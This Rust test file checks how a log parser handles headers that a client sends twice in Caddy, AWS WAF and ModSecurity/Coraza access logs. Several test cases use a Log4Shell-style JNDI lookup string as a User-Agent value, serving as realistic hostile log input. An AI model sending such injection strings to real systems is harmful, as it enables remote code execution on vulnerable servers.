//! A header that a client sends twice is carried twice: once in the field that the event has for it, once among the
//! further headers.

use schemas::{Event, Record};
use uuid::Uuid;

use crate::NOW;

/// Host, agent and referer of the event that `line` becomes, and its further headers, also after it was written and
/// read.
#[track_caller]
fn check(format: &str, line: &str, own: [Option<&str>; 3], further: &str) {
    let event = crate::event(format, line).into_event(Uuid::nil(), "s".to_owned(), None, NOW);
    let mut bytes = Vec::new();
    event.encode(&mut bytes).unwrap();
    let read = Event::decode(&bytes).unwrap();
    assert_eq!([read.host, read.agent, read.referer], own, "{line}");
    let headers = read.headers.clone().into_iter().flatten();
    let told: Vec<String> = headers.map(|(name, value)| format!("{name}={value}")).collect();
    assert_eq!(told.join(" "), further, "{line}");
    assert_eq!(read.cut.iter().count(), 0, "{line}");
}

#[test]
fn caddy_tells_the_last_of_a_list_and_keeps_the_others() {
    let line = |headers: &str| {
        format!(
            r#"{{"ts":1.5,"logger":"http.log.access","request":{{"remote_ip":"81.2.69.142","host":"h","headers":{{{headers}}}}}}}"#
        )
    };
    check(
        "caddy",
        &line(r#""User-Agent":["${jndi:ldap://x/a}","Mozilla/5.0"]"#),
        [Some("h"), Some("Mozilla/5.0"), None],
        "User-Agent=${jndi:ldap://x/a}",
    );
    check(
        "caddy",
        &line(r#""Referer":["/a","/b"],"User-Agent":["curl"]"#),
        [Some("h"), Some("curl"), Some("/b")],
        "Referer=/a",
    );
}

#[test]
fn aws_waf_tells_the_last_and_keeps_the_others() {
    let header = |(name, value): &(&str, &str)| format!(r#"{{"name":"{name}","value":"{value}"}}"#);
    let line = |headers: &[(&str, &str)]| {
        let headers: Vec<String> = headers.iter().map(header).collect();
        format!(
            r#"{{"timestamp":1,"action":"ALLOW","httpRequest":{{"clientIp":"81.2.69.142","headers":[{}]}}}}"#,
            headers.join(",")
        )
    };
    check(
        "aws-waf",
        &line(&[("User-Agent", "first"), ("Host", "h"), ("X-A", "1"), ("user-agent", "last")]),
        [Some("h"), Some("last"), None],
        "User-Agent=first X-A=1",
    );
    check(
        "aws-waf",
        &line(&[("host", "a.example"), ("host", "a.example:443"), ("host", "b.example")]),
        [Some("b.example"), None, None],
        "host=a.example host=a.example:443",
    );
}

#[test]
fn modsecurity_tells_none_of_two_spellings_and_keeps_both() {
    let line = |headers: &str| {
        format!(
            r#"{{"transaction":{{"client_ip":"81.2.69.142","unix_timestamp":1000000,"request":{{"headers":{{{headers}}}}}}}}}"#
        )
    };
    for format in ["modsecurity", "coraza"] {
        check(
            format,
            &line(r#""User-Agent":"${jndi:ldap://x/a}","user-agent":"x""#),
            [None, None, None],
            "User-Agent=${jndi:ldap://x/a} user-agent=x",
        );
        check(
            format,
            &line(
                r#""Host":"a.example","User-Agent":"first","Host":"b.example","User-Agent":"last""#,
            ),
            [Some("b.example"), Some("last"), None],
            "Host=a.example User-Agent=first",
        );
        check(
            format,
            &line(r#""X-A":["1"],"X-A":["2","3"],"X-A":"4""#),
            [None, None, None],
            "X-A=1 X-A=2 X-A=3 X-A=4",
        );
    }
}
